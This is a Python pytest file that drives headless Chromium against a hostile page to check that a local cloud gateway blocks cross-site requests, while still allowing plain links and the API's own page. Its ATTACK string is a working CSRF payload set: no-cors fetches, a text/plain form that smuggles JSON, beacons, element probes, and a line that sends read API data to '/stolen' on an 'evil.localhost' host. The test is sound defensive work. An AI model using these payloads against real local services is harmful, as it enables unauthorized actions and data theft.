"""A real browser on a web page that means ill, beside a platform that asks for no credential."""

import asyncio
import os
import shutil
import signal
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from aiohttp import web

from maxcloud_local.gateway.gateway import Gateway
from maxcloud_local.kinds import INGRESS
from tests.local.front import ingress
from tests.local.standins import until
from tests.local.world import listening, world

pytestmark = pytest.mark.anyio

BROWSER = next(
    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
)

OPTIONS = """
    --headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-sync
    --disable-background-networking --disable-component-update --disable-dev-shm-usage
""".split()

SECONDS = 60

# What any web page can try. Everything is tried, whatever becomes of the rest; in the end the page
# leaves for the API with a form, as with a person's click.
ATTACK = """
<iframe name="frame"></iframe>
<form id="form" method="post" enctype="text/plain">
  <input name='{"name":"x","a":"' value='"}'>
</form>
<script>
const api = "API/api/v1/services", json = {"Content-Type": "application/json"};
const attempts = [
  fetch(api, {method: "POST", mode: "no-cors", body: '{"name":"x"}'}),
  fetch(api, {method: "POST", mode: "no-cors", body: new URLSearchParams({name: "x"})}),
  fetch(api, {method: "POST", mode: "no-cors", body: new FormData(form)}),
  fetch(api, {method: "POST", mode: "no-cors"}),
  fetch(api, {method: "POST", headers: json, body: '{"name":"x"}'}),
  fetch(api + "/x", {method: "DELETE"}),
  fetch(api + "/x", {method: "PATCH", headers: json, body: "{}"}),
  fetch(api).then(answer => answer.text()).then(text => fetch("/stolen?" + text)),
  fetch(api, {mode: "no-cors"}),
  ...["img", "script", "iframe"].map(kind => new Promise(done => {
    const element = document.createElement(kind);
    element.onload = element.onerror = done;
    element.src = api + "?" + kind;
    document.body.append(element);
  })),
  new Promise(done => new WebSocket(api.replace("http", "ws")).onerror = done),
];
navigator.sendBeacon(api + "?beacon", '{"name":"x"}');
form.action = api + "?framed"; form.target = "frame"; form.submit();
Promise.allSettled(attempts).then(async outcomes => {
  await fetch("/tried?" + outcomes.length);
  form.action = api + "?left"; form.target = "_self"; form.submit();
});
</script>
"""

LINK = '<script>location = "API/api/v1/services?link"</script>'

# Served by the API itself.
OWN_PAGE = """
<script>
const api = "/api/v1/services", headers = {"Content-Type": "application/json"};
(async () => {
  await fetch(api);
  await fetch(api, {method: "POST", headers, body: '{"name":"x"}'});
  await fetch(api + "/x", {method: "PATCH", headers, body: "{}"});
  await fetch(api + "/x", {method: "DELETE"});
})();
</script>
"""


class Machine:
    """A developer's: the gateway with a function behind it, and a web page of somebody else's."""

    def __init__(self) -> None:
        self.api = self.evil_port = ""
        # What reached the function, what the gateway answered, and what the page told its maker.
        self.reached: list[tuple[str, str]] = []
        self.answered: dict[str, set[int]] = {}
        self.told: list[str] = []

    async def function(self, request: web.Request) -> web.Response:
        self.reached.append((request.method, request.path_qs))
        page = OWN_PAGE if request.path == "/api/v1/version" else ""
        return web.Response(text=page, content_type="text/html")

    async def page(self, request: web.Request) -> web.Response:
        self.told.append(request.path_qs)
        page = {"/attack": ATTACK, "/link": LINK}.get(request.path, "")
        return web.Response(text=page.replace("API", self.api), content_type="text/html")

    async def answering(self, request: web.BaseRequest, answer: web.StreamResponse) -> None:
        self.answered.setdefault(f"{request.method} {request.path_qs}", set()).add(answer.status)


@asynccontextmanager
async def machine() -> AsyncIterator[Machine]:
    async with world() as here:
        made = Machine()
        bound = listening()
        port = bound.getsockname()[1]
        made.api = f"http://localhost:{port}"
        gateway = Gateway(here.store, here.serving, here.forwarder, port)
        runner = gateway.runner()
        runner.app.on_response_prepare.append(made.answering)
        await here.serve(runner, bound)
        here.store.create(INGRESS, ingress())
        for name in ("health", "services"):
            await here.service(name, made.function, namespace="mc-system", inside=True)
        here.follow(gateway.run)
        await until(lambda: "status" in here.store.all(INGRESS)[0])
        app = web.Application()
        app.router.add_get("/{path:.*}", made.page)
        made.evil_port = str(await here.serve(web.AppRunner(app)))
        yield made


@asynccontextmanager
async def browser(url: str, profile: Path) -> AsyncIterator[None]:
    if BROWSER is None:
        pytest.skip("Chromium is not installed")
    process = await asyncio.create_subprocess_exec(
        *(BROWSER, *OPTIONS, f"--user-data-dir={profile}", "--remote-debugging-port=0", url),
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        await process.wait()


@pytest.mark.parametrize("host", ["127.0.0.1", "evil.localhost"])
async def test_no_web_page_reaches_the_api(host: str, tmp_path: Path) -> None:
    async with machine() as here, browser(f"http://{host}:{here.evil_port}/attack", tmp_path):
        left = "POST /api/v1/services?left"
        await until(lambda: left in here.answered, SECONDS)
        assert here.reached == []
        assert not [told for told in here.told if told.startswith("/stolen")]
        assert [told for told in here.told if told.startswith("/tried")] == ["/tried?13"]
        # The browser did send all of it.
        services = "/api/v1/services"
        for kind in ("img", "script", "iframe"):
            assert here.answered[f"GET {services}?{kind}"] == {403}
        for sent in (f"{services}?beacon", f"{services}?framed", f"{services}?left", services):
            assert here.answered[f"POST {sent}"] == {403}
        assert here.answered[f"GET {services}"] == {403}
        # What would not be simple was asked for first, and never sent.
        assert here.answered[f"OPTIONS {services}/x"] == {403}
        assert {f"DELETE {services}/x", f"PATCH {services}/x"}.isdisjoint(here.answered)


async def test_a_link_to_the_api_may_be_followed(tmp_path: Path) -> None:
    async with machine() as here, browser(f"http://127.0.0.1:{here.evil_port}/link", tmp_path):
        await until(lambda: here.reached, SECONDS)
        assert here.reached == [("GET", "/api/v1/services?link")]


async def test_the_apis_own_page_may_use_it(tmp_path: Path) -> None:
    async with machine() as here, browser(f"{here.api}/api/v1/version", tmp_path):
        wanted = {
            ("GET", "/api/v1/services"),
            ("POST", "/api/v1/services"),
            ("PATCH", "/api/v1/services/x"),
            ("DELETE", "/api/v1/services/x"),
        }
        await until(lambda: wanted <= set(here.reached), SECONDS)
